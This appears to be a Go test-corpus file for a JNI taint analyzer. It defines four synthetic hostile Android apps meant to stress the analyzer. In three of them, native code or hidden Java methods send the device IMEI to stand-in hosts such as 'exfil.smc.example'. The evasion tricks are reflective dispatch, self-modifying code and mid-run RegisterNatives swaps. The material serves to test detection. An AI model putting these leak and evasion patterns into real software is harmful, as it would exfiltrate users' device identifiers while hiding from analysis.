package apps

// The hostile-JNI surface corpus: four apps that attack the *observability*
// of the JNI boundary rather than the analyzer's execution machinery. Each
// one stresses a distinct part of the surface observer (internal/surface):
// a RASP-style flood that would blow an unthrottled event stream, a
// reflection-dispatch leaker whose call target never appears in the dex call
// graph, a self-modifying library that rewrites live native code before
// re-registering its hooks, and a mid-run RegisterNatives swap that flips a
// benign binding into a leaking one.

import (
	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/taint"
)

// raspIterations is the RASP check-loop trip count. With three natives per
// iteration the app makes 3*8192 = 24576 JNI crossings; under throttling the
// observer attempts only 3 registrations + 3*14 count buckets = 45 events —
// enough to exceed surface.DefaultEventBudget (the map truncates, typed and
// flagged) while the unthrottled baseline attempts all ~24k.
const raspIterations = 8192

// HostileRaspApp models a runtime-application-self-protection loop: three
// trivial integrity-check natives (root, debugger, hook detection) hammered
// thousands of times from Java. It leaks nothing — the attack is on the
// observer. A naive per-call event stream costs O(calls); the throttled
// observer costs O(unique boundaries * log calls) and reports truncation
// honestly when even that exceeds the event budget.
func HostileRaspApp() *App {
	const cls = "Lcom/hostile/rasp/Main;"
	return &App{
		Name:          "hostile-rasp",
		Desc:          "hostile: RASP integrity loop floods three JNI boundaries (observer must stay bounded)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictClean,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("librasp.so", `
; jint checkRoot(JNIEnv*, jclass) — always "clean"
Java_checkRoot:
	PUSH {R4, LR}
	MOV R0, #0
	POP {R4, PC}

; jint checkDebug(JNIEnv*, jclass)
Java_checkDebug:
	PUSH {R4, LR}
	MOV R0, #0
	POP {R4, PC}

; jint checkHooks(JNIEnv*, jclass)
Java_checkHooks:
	PUSH {R4, LR}
	MOV R0, #0
	POP {R4, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("checkRoot", "I", dex.AccStatic, 0)
			cb.NativeMethod("checkDebug", "I", dex.AccStatic, 0)
			cb.NativeMethod("checkHooks", "I", dex.AccStatic, 0)
			cb.Method("run", "V", dex.AccStatic, 3).
				Const(1, raspIterations).
				Label("loop").
				IfZ(1, dex.Le, "done").
				InvokeStatic(cls, "checkRoot", "I").
				MoveResult(2).
				InvokeStatic(cls, "checkDebug", "I").
				MoveResult(2).
				InvokeStatic(cls, "checkHooks", "I").
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("done").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "checkRoot", prog, "Java_checkRoot"); err != nil {
				return err
			}
			if err := sys.VM.BindNative(cls, "checkDebug", prog, "Java_checkDebug"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "checkHooks", prog, "Java_checkHooks")
		},
	}
}

// HostileReflectApp leaks through a reflection-style dispatch: Java hands the
// IMEI to an innocuous-looking native "dispatch", which resolves a hidden
// Java method by name at runtime (GetStaticMethodID + CallStaticVoidMethod)
// and invokes it with the tainted string. The exfil method never appears in
// the dex call graph — only the boundary observer's reflect counter and the
// dynamic taint flow see it.
func HostileReflectApp() *App {
	const cls = "Lcom/hostile/reflect/Main;"
	return &App{
		Name:        "hostile-reflect",
		Desc:        "hostile: native resolves hidden Java sink by name and dispatches the taint reflectively",
		Case:        "3",
		EntryClass:  cls,
		EntryMethod: "run",
		Hostile:     true,
		ExpectTag:   taint.IMEI,
		ExpectSink:  "Network.send",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libreflect.so", `
; void dispatch(JNIEnv*, jclass, jstring secret)
Java_dispatch:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R6, R2          ; tainted jstring
	; cls = FindClass("com/hostile/reflect/Main")
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	; mid = GetStaticMethodID(env, cls, "exfil", "(Ljava/lang/String;)V")
	MOV R0, R4
	MOV R1, R5
	LDR R2, =mname
	LDR R3, =msig
	BL GetStaticMethodID
	MOV R7, R0
	; CallStaticVoidMethod(env, cls, mid, secret)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R7
	MOV R3, R6
	BL CallStaticVoidMethod
	POP {R4, R5, R6, R7, PC}

cls_name:
	.asciz "com/hostile/reflect/Main"
mname:
	.asciz "exfil"
msig:
	.asciz "(Ljava/lang/String;)V"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("dispatch", "VL", dex.AccStatic, 0)
			// The hidden sink: nothing in the dex ever invokes it directly.
			cb.Method("exfil", "VL", dex.AccStatic, 1).
				ConstString(0, "drop.reflect.example").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 0, 1).
				ReturnVoid().
				Done()
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "dispatch", "VL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "dispatch", prog, "Java_dispatch")
		},
	}
}

// HostileSmcApp is the self-modifying library: `process` starts bound to a
// benign identity implementation that Java warms up until it is decoded and
// translated. A later native call then (1) stores into the live code page of
// the benign implementation — a semantics-preserving self-modification that
// still forces translation invalidation and fires the observer's code-write
// counter — and (2) re-registers `process` to a leaking implementation. The
// surface map must record both the code write and the dynamic
// re-registration, and the very next crossing must leak.
func HostileSmcApp() *App {
	const cls = "Lcom/hostile/smc/Main;"
	return &App{
		Name:        "hostile-smc",
		Desc:        "hostile: SMC write into live native code, then RegisterNatives re-hooks to a leaking impl",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		Hostile:     true,
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libsmc.so", `
; jstring process(JNIEnv*, jclass, jstring) — impl A: identity
Java_processA:
	PUSH {R4, LR}
	MOV R0, R2
	POP {R4, PC}

; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
Java_processB:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R7, R2          ; jstring
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, R7
	POP {R4, R5, R6, R7, PC}

; void mutate(JNIEnv*, jclass) — SMC write into impl A, then re-register
Java_mutate:
	PUSH {R4, LR}
	MOV R4, R0
	; self-modify: rewrite impl A's first word in place. The value is
	; unchanged, but the store lands inside a decoded+translated code
	; extent, so every cached translation of that page must die.
	LDR R0, =Java_processA
	LDR R1, [R0]
	STR R1, [R0]
	; RegisterNatives(process -> Java_processB)
	MOV R0, R4
	LDR R1, =cls_name
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =njm
	MOV R3, #1
	BL RegisterNatives
	POP {R4, PC}

cls_name:
	.asciz "com/hostile/smc/Main"
pname:
	.asciz "process"
psig:
	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
host:
	.asciz "exfil.smc.example"
	.align 4
njm:
	.word pname, psig, Java_processB
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
			cb.NativeMethod("mutate", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				// Warm the benign impl until its code page is translated.
				Const(1, 5).
				Label("loop").
				IfZ(1, dex.Le, "swap").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("swap").
				InvokeStatic(cls, "mutate", "V").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "mutate", prog, "Java_mutate")
		},
	}
}

// HostilePinswapApp swaps a native binding out from under an analysis of the
// installed app. Its checksum helper is pure and its `process` native starts
// benign. Mid-run a RegisterNatives call swaps `process` to a leaking
// implementation that the installed bindings never named. The analyzer must
// still catch the leak on the next crossing.
func HostilePinswapApp() *App {
	const cls = "Lcom/hostile/pinswap/Main;"
	return &App{
		Name:        "hostile-pinswap",
		Desc:        "hostile: mid-run RegisterNatives swap to a leaking native",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		Hostile:     true,
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libpinswap.so", `
; jstring process(JNIEnv*, jclass, jstring) — impl A: identity
Java_processA:
	PUSH {R4, LR}
	MOV R0, R2
	POP {R4, PC}

; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
Java_processB:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0
	MOV R7, R2
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, R7
	POP {R4, R5, R6, R7, PC}

; void swap(JNIEnv*, jclass) — RegisterNatives(process -> Java_processB)
Java_swap:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =njm
	MOV R3, #1
	BL RegisterNatives
	POP {R4, PC}

cls_name:
	.asciz "com/hostile/pinswap/Main"
pname:
	.asciz "process"
psig:
	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
host:
	.asciz "exfil.pinswap.example"
	.align 4
njm:
	.word pname, psig, Java_processB
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
			cb.NativeMethod("swap", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				// The taint-free checksum runs before the swap...
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				Const(1, 5).
				Label("loop").
				IfZ(1, dex.Le, "swap").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("swap").
				InvokeStatic(cls, "swap", "V").
				// ...and again after; the next crossing must leak.
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "swap", prog, "Java_swap")
		},
	}
}
